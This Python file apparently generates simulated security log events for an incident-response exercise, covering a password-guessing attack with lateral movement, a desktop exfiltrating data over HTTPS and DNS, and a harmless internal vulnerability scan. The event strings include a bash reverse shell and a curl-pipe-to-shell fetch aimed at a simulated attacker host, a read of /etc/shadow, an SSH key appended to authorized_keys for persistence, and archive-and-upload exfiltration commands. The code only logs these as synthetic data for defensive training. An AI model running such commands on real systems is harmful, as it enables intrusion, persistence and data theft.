"""The three attacks of the hour, as events; times are seconds since its start.

1. Passwords are guessed at the jump host from outside. One fits; from there it goes on to the database and the files.
2. A desk packs files, sends them out over HTTPS and in names that are asked for.
3. The company's own vulnerability management scans: as noisy as can be, and harmless. The asset inventory knows it.

All hosts and addresses are of the simulated company, or reserved for documentation.
"""

from __future__ import annotations

import numpy as np

from baton_demo.incident_response import company
from baton_demo.incident_response.simulation import logs
from baton_demo.incident_response.simulation.rows import DNS, FAILURE, HTTP, PROCESS, Events

BRUTE_FORCE, LATERAL_MOVEMENT, EXFILTRATION, SCANNER = "brute_force", "lateral_movement", "exfiltration", "scanner"
GUESSING, ENTERED, MOVED, MOVED_AGAIN = (330.0, 990.0), 1_002.0, 1_250.0, 1_560.0
LEAKING, SCANNING = (1_590.0, 2_690.0), (930.0, 2_060.0)
LEAKING_DESK = "ws-17"
SCANNED = tuple(f"ws-{number:02d}" for number in range(13, 41) if number != 17)  # desks of the site that has a day off
BANNERS = (company.MAIL, company.BUILD)
_TRIED = ("root", "admin", "postgres", "deploy", "jenkins", "oracle", company.SERVICE_ACCOUNT)
_LOOKS_AROUND = (
    "whoami",
    "id",
    "uname -a",
    "cat /etc/passwd",
    "sudo -l",
    "ss -tulpn",
    "ls -la /home",
    "cat /root/.ssh/known_hosts",
)
_NEXT = (company.FILES, company.BUILD, company.BACKUP, company.WEB, company.MAIL, company.DATABASE)  # who lets it in?
_IN_THE_DATABASE = (
    f"bash -c bash -i >& /dev/tcp/{company.ATTACKER}/4444 0>&1", f"curl -s http://{company.ATTACKER}/k.sh | sh", "cat /etc/shadow",
    "sh -c echo ssh-ed25519 AAAAC3NzaC1lZDI1NTE5 >> /root/.ssh/authorized_keys", "pg_dump -U postgres --all -f .d", "crontab -l",
)  # fmt: skip
_LETTERS = "abcdefghijklmnopqrstuvwxyz234567"


def guessing(rng: np.random.Generator) -> Events:
    """Some 170 wrong passwords from one address at the jump host, and one that fits."""
    events, jump = Events(BRUTE_FORCE), company.hosts()[company.JUMP]
    known = company.users()
    times = np.sort(rng.uniform(*GUESSING, 170))
    for at in times:
        user = _TRIED[rng.integers(len(_TRIED))]
        port, pid = int(rng.integers(30_000, 60_000)), int(rng.integers(1_000, 32_000))
        logs.failed(events, float(at), jump, user, company.ATTACKER, port, pid, known=user in known or user == "root")
    for again in range(3):
        at = ENTERED - 20 + 5 * again
        logs.failed(events, at, jump, company.SERVICE_ACCOUNT, company.ATTACKER, 51_000 + again, 4_100 + again)
    logs.session(
        events, ENTERED, jump, company.SERVICE_ACCOUNT, company.ATTACKER, 51_010, 4_110, 1_500, method="password"
    )
    return events


def moving(rng: np.random.Generator) -> Events:
    """Looks around on the jump host, goes on to the database and to the files, leaves something behind."""
    events, hosts, user = Events(LATERAL_MOVEMENT), company.hosts(), company.SERVICE_ACCOUNT
    jump, database, files = hosts[company.JUMP], hosts[company.DATABASE], hosts[company.FILES]
    for number, command in enumerate(_LOOKS_AROUND):
        _runs(events, ENTERED + 12 + 9 * number + rng.uniform(0, 4), jump.name, user, command)
    for number, name in enumerate(_NEXT):
        _runs(
            events,
            ENTERED + 100 + 14 * number,
            jump.name,
            user,
            f"ssh -o StrictHostKeyChecking=no {user}@{name} hostname",
        )
    logs.session(events, MOVED, database, user, jump.address, 40_112, 7_701, 900, method="password")
    for number, command in enumerate(_IN_THE_DATABASE):
        _runs(events, MOVED + 20 + 12 * number + rng.uniform(0, 5), database.name, user, command)
    _runs(events, MOVED_AGAIN - 20, jump.name, user, f"scp {user}@{files.name}:/srv/finance.tar.gz /tmp")
    logs.session(events, MOVED_AGAIN, files, user, jump.address, 40_170, 7_912, 400, method="password")
    _runs(events, MOVED_AGAIN + 12, files.name, user, "tar czf /tmp/.f.tgz /srv/finance")
    return events


def leaking(rng: np.random.Generator) -> Events:
    """A desk packs files and sends them away, large pieces over HTTPS and small ones in names."""
    events, desk = Events(EXFILTRATION), company.hosts()[LEAKING_DESK]
    user = desk.owner
    archiver = r"C:\Program Files\Archiver\7z.exe"
    command = r"7z.exe a -t7z -mhe -pK33p C:\Users\Public\q.7z \\srv-files\finance"
    events.add(
        LEAKING[0] - 60,
        PROCESS,
        desk,
        user_name=user,
        process_name=archiver,
        process_cmd_line=command,
        service_name="security",
    )
    sender, upload = (
        r"C:\Windows\System32\curl.exe",
        rf"curl.exe -T C:\Users\Public\q.7z https://{company.EXFILTRATED_TO}/up",
    )
    events.add(
        LEAKING[0] - 5,
        PROCESS,
        desk,
        user_name=user,
        process_name=sender,
        process_cmd_line=upload,
        service_name="security",
    )
    to = {"src_endpoint_ip": desk.address, "dst_endpoint_ip": company.EXFILTRATED_TO}
    for at in np.linspace(*LEAKING, 14) + rng.uniform(0, 30, 14):
        sent = int(rng.lognormal(17.6, 0.35))
        events.add(float(at), HTTP, desk, user_name=user, dst_endpoint_port=443, activity_id=6, traffic_bytes_out=sent,
                   dst_endpoint_hostname=company.EXFILTRATED_TO,
                   http_request_url=f"https://{company.EXFILTRATED_TO}/up?id={rng.integers(10**9)}", **to)  # fmt: skip
    for number, at in enumerate(np.sort(rng.uniform(LEAKING[0], LEAKING[1] - 200, 260))):
        label = "".join(_LETTERS[letter] for letter in rng.integers(0, 32, 52))
        events.add(float(at), DNS, desk, user_name=user, dst_endpoint_port=53, traffic_bytes_out=int(rng.integers(150, 240)),
                   query_hostname=f"{number:03x}-{label}.{company.TUNNEL}", **to)  # fmt: skip
    return events


def scanning(rng: np.random.Generator) -> Events:
    """The vulnerability management reads the banners of servers and asks web servers for what should not be there."""
    events, hosts = Events(SCANNER), company.hosts()
    scanner = hosts[company.SCANNER]
    for name in BANNERS:
        logs.banners(events, rng, hosts[name], scanner.address, *SCANNING, 14)
    for at in np.sort(rng.uniform(*SCANNING, 90)):
        name = SCANNED[rng.integers(len(SCANNED))]
        page = ("/.git/config", "/admin", "/wp-login.php", "/server-status", "/etc/passwd", "/phpinfo.php")[
            rng.integers(6)
        ]
        events.add(float(at), HTTP, name, src_endpoint_ip=scanner.address, dst_endpoint_ip=hosts[name].address, status_id=FAILURE,
                   dst_endpoint_hostname=name, dst_endpoint_port=80, activity_id=3, traffic_bytes_out=240,
                   http_request_url=f"http://{name}{page}")  # fmt: skip
    return events


def _runs(events: Events, at: float, host: str, user: str, command: str) -> None:
    program = command.split()[0]
    path = program if program.startswith("/") else f"/usr/bin/{program}"
    events.add(at, PROCESS, host, user_name=user, process_name=path, process_cmd_line=command, service_name="auditd")
